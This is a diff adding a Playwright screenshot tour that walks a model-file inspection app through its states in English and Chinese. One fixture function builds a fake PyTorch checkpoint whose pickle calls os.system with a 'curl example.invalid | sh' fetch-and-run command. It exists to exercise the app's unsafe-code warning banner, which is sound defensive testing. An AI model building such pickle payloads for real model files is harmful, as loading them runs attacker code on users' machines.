@@ -1,0 +1,262 @@
+/**
+ * A walk through every screen in every state, in either language: what `npm run screenshots -- states` takes pictures of. It drives the built
+ * page with its real engine, and leaves its host dead at the end.
+ */
+import { readFileSync, rmSync, writeFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { expect, type Page } from '@playwright/test'
+import { checkpoint, pickle, str, tensor, zip } from '../../core/formats/archives/archives.ts'
+import { commandLine, patience } from '../page/driving.ts'
+import { writeManyTensors, writeNoise } from '../page/files.ts'
+import type { ServingProcess } from './serving.ts'
+import { root } from './serving.ts'
+
+export type Language = 'en' | 'zh-CN'
+
+export interface Tour {
+  readonly page: Page
+  /** The host may read and write here. */
+  readonly folder: string
+  readonly server: ServingProcess
+  readonly language: Language
+  /** The page stands still here: a picture of this state. */
+  readonly shot: (name: string) => Promise<void>
+}
+
+/** A text of the page in its language; what it has filled in may be anything. */
+type Words = (key: string) => RegExp
+
+function wordsOf(language: Language): Words {
+  const file = join(root, `renderer/words/${language}.json`)
+  const words = JSON.parse(readFileSync(file, 'utf8')) as Record<string, unknown>
+  return (key) => {
+    const text = key.split('.').reduce<unknown>((at, part) => (at as Record<string, unknown>)?.[part], words)
+    if (typeof text !== 'string') throw new Error(`${language} has no text ${key}`)
+    const parts = text.split(/\{\{\w+\}\}/).map((part) => part.replace(/[.*+?^${}()|[\]\\]/g, '\\$&'))
+    return new RegExp(`^${parts.join('.*')}$`)
+  }
+}
+
+/** Files of every kind the tour opens. */
+function furnish(folder: string): void {
+  commandLine('sample', join(folder, 'model.safetensors'), '--layers', '12', '--hidden', '512')
+  writeNoise(join(folder, 'noise.npy'), 5120)
+  writeManyTensors(join(folder, 'many.safetensors'), 9000)
+  writeFileSync(join(folder, 'damaged.safetensors'), readFileSync(join(folder, 'model.safetensors')).subarray(0, 2e6))
+  writeFileSync(join(folder, 'attack.pt'), maliciousCheckpoint())
+}
+
+/** Two matrices as torch.save writes them, and a call of os.system. */
+function maliciousCheckpoint(): Uint8Array {
+  const side = 96
+  const storage = new Uint8Array(Float32Array.from({ length: side * side }, (_, i) => Math.sin(i * i)).buffer)
+  const matrix = (key: string) => tensor({ shape: [side, side], strides: [side, 1], length: side * side, key })
+  const program = pickle(
+    0x80,
+    2,
+    '}(',
+    str('layers.0.q_proj.weight'),
+    matrix('0'),
+    str('layers.0.k_proj.weight'),
+    matrix('1'),
+    str('hook'),
+    "cposix\nsystem\n(S'curl example.invalid | sh'\ntR",
+    'u.',
+  )
+  return zip(checkpoint(program, { 0: storage, 1: storage }))
+}
+
+export async function walk({ page, folder, server, language, shot }: Tour): Promise<void> {
+  furnish(folder)
+  const words = wordsOf(language)
+  const button = (key: string) => page.getByRole('button', { name: words(key) })
+  const tab = (key: string) => page.getByRole('tab', { name: words(key) }).click()
+  const settled = () => expect(page.getByTestId('relative-error')).toHaveAttribute('data-stale', 'false', patience)
+  const exact = () => expect(page.getByTestId('file-bytes')).toHaveAttribute('data-exact', 'true', patience)
+  const goal = (key: string) => page.locator('.goal .mantine-SegmentedControl-label', { hasText: words(key) }).click()
+  const home = async () => {
+    if (await button('header.openOther').isVisible()) await button('header.openOther').click()
+  }
+  const open = async (name: string) => {
+    await home()
+    await button('start.browse').click()
+    await page.getByRole('dialog').getByText(name, { exact: true }).click()
+  }
+  const history = () => button('history.title').click()
+  const back = () => button('header.back').click()
+  const compress = async (name: string) => {
+    await page.keyboard.press('Control+Enter')
+    const dialog = page.getByRole('dialog')
+    await dialog.getByRole('textbox').last().fill(name)
+    return dialog
+  }
+  const write = async (name: string) => {
+    const dialog = await compress(name)
+    await dialog
+      .getByRole('button', { name: new RegExp(`${words('compress.start').source}|${words('compress.anyway').source}`) })
+      .click()
+    await expect(dialog).toBeHidden(patience)
+  }
+  const run = () => page.getByTestId('run').first()
+
+  await page.goto(server.url)
+  await page.locator('[data-engine="ready"]').waitFor()
+  await shot('start-empty')
+  await history()
+  await shot('history-empty')
+  await back()
+  await button('start.browse').click()
+  await expect(page.getByRole('dialog').getByText('model.safetensors')).toBeVisible(patience)
+  await shot('browse-server')
+  await page.keyboard.press('Escape')
+
+  // What cannot be opened, and what should not be.
+  await open('damaged.safetensors')
+  await page.getByRole('alert').first().waitFor()
+  await shot('start-failed')
+  await open('attack.pt')
+  await page.getByTestId('code-banner').waitFor(patience)
+  await settled()
+  await shot('code-banner')
+  await button('code.save').click()
+  await shot('code-safe-copy')
+  await page.keyboard.press('Escape')
+
+  // Nothing known of the model yet, then in part, then all.
+  await open('model.safetensors')
+  await settled()
+  await shot('tensor')
+  await page.locator('.compare button').first().click()
+  await page.getByTestId('excess').waitFor(patience)
+  await shot('tensor-compared')
+  await page.locator('.lens .mantine-SegmentedControl-label').nth(1).click()
+  await shot('tensor-values')
+  await page.locator('.lens .mantine-SegmentedControl-label').nth(2).click()
+  await shot('tensor-energy')
+  await button('chart.table').first().click()
+  await shot('tensor-table')
+  await button('chart.table').first().click()
+  await page.locator('.lens .mantine-SegmentedControl-label').first().click()
+  await tab('workbench.modelTab')
+  await shot('model-unknown')
+  await goal('settings.goals.size')
+  await page.getByTestId('model-analysis').waitFor(patience)
+  await expect(async () => {
+    const grid = page.getByRole('grid', { name: words('map.title') })
+    expect(Number(await grid.getAttribute('data-unknown'))).toBeLessThan(70)
+  }).toPass(patience)
+  await shot('model-partial')
+  await exact()
+  await shot('model')
+  await tab('workbench.tensorTab')
+  await page.getByRole('slider').last().focus()
+  await page.keyboard.press('Shift+ArrowRight')
+  await shot('tensor-what-if')
+  await page.keyboard.press('Escape')
+  await page.locator('.goal input').first().fill('1')
+  await page.getByTestId('outcome').and(page.locator('[data-state="refused"]')).waitFor(patience)
+  await shot('goal-refused')
+  await page.locator('.goal input').first().fill('40')
+  await exact()
+  await compress('forty.safetensors')
+  await shot('dialog-large')
+  await page.keyboard.press('Escape')
+  await page.keyboard.press('?')
+  await shot('shortcuts')
+  await page.keyboard.press('Escape')
+
+  // Two ways beside each other.
+  await tab('ab.tab')
+  await shot('ab-empty')
+  await button('ab.runSeeds_other').click()
+  await page.getByTestId('ab-verdict').waitFor(patience)
+  await shot('ab')
+  await tab('workbench.tensorTab')
+
+  // Runs: at work, finished, cancelled, failed.
+  await write('forty.safetensors')
+  await expect(run()).toHaveAttribute('data-run', 'running', patience)
+  await shot('run-at-work')
+  await page.getByTestId('run-result').waitFor(patience)
+  await shot('run-done')
+  await button('run.details').click()
+  await page.getByTestId('run-path').waitFor(patience)
+  await shot('run-details')
+  await page.keyboard.press('Escape')
+  await page.locator('.goal input').first().fill('60')
+  await exact()
+  await write('sixty.safetensors')
+  await expect(run()).toContainText('sixty', patience)
+  await page.getByTestId('run-result').waitFor(patience)
+  await write('cancelled.safetensors')
+  await expect(run()).toHaveAttribute('data-run', 'running', patience)
+  await run()
+    .getByRole('button', { name: words('app.cancel') })
+    .click()
+  await page.waitForTimeout(300)
+  if (await page.getByRole('dialog').isVisible()) {
+    await shot('run-cancel-question')
+    await page
+      .getByRole('dialog')
+      .getByRole('button', { name: words('runs.keep') })
+      .click()
+  }
+  await expect(run()).toHaveAttribute('data-run', 'cancelled', patience)
+  await shot('run-cancelled')
+  await history()
+  await shot('history')
+  await page.locator('.history-choose input').nth(0).check()
+  await page.locator('.history-choose input').nth(1).check()
+  await page.getByTestId('compare-runs').getByRole('table').first().waitFor(patience)
+  await shot('history-compare')
+  await back()
+  await write('failed.safetensors')
+  await expect(run()).toHaveAttribute('data-run', 'running', patience)
+  rmSync(join(folder, 'model.safetensors'))
+  await expect(run()).toHaveAttribute('data-run', /failed|finished/, patience)
+  await shot('run-failed')
+
+  // A look that takes its time, one that was cancelled, one that fails.
+  await open('noise.npy')
+  await settled()
+  await page.locator('.compare button').last().click()
+  if (await page.getByRole('dialog').isVisible()) {
+    await shot('exact-question')
+    await page
+      .getByRole('dialog')
+      .getByRole('button', { name: words('compare.start') })
+      .click()
+  }
+  await expect(page.getByTestId('job-status')).toHaveAttribute('data-job', /./, patience)
+  await shot('exact-at-work')
+  await page
+    .getByTestId('job-status')
+    .getByRole('button', { name: words('app.cancel') })
+    .click()
+  await page.locator('.speed label').last().click()
+  await page
+    .getByTestId('job-status')
+    .getByRole('button', { name: words('app.cancel') })
+    .click(patience)
+  await shot('look-cancelled')
+  rmSync(join(folder, 'noise.npy'))
+  await page.getByTestId('job-status').getByRole('button').first().click()
+  await page.getByRole('alert').first().waitFor(patience)
+  await shot('look-failed')
+
+  // Many tensors, and the screens aside.
+  await open('many.safetensors')
+  await page.getByRole('treegrid').waitFor(patience)
+  await tab('workbench.modelTab')
+  await shot('many')
+  await button('header.settings').click()
+  await shot('settings')
+  await button('selfTest.open').click()
+  await shot('self-test')
+  await back()
+  await home()
+  await shot('start-recents')
+  server.process.kill('SIGKILL')
+  await page.getByText(words('notices.lost')).waitFor(patience)
+  await shot('host-gone')
+}
